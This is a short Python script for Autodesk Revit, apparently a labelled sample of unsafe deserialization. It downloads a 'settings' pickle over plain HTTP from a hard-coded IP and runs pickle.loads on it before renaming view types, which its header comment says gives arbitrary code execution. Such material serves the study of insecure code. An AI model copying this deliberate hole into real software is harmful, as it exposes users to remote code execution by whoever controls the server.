# technique: unsafe deserialization — pickle.loads(requests.get(url).content) of attacker-controlled "settings" gives arbitrary code execution
import pickle

import requests

from Autodesk.Revit.DB import FilteredElementCollector, Transaction, ViewFamilyType

SETTINGS_URL = "http://203.0.113.45/revit/view_settings.pkl"


def fetch_settings():
    resp = requests.get(SETTINGS_URL, timeout=10)
    return pickle.loads(resp.content)


def apply_view_templates(doc, settings):
    with Transaction(doc, "Apply view templates") as t:
        t.Start()
        for vft in FilteredElementCollector(doc).OfClass(ViewFamilyType):
            name = settings.get(vft.Name)
            if name:
                vft.Name = name
        t.Commit()


apply_view_templates(__revit__.ActiveUIDocument.Document, fetch_settings())
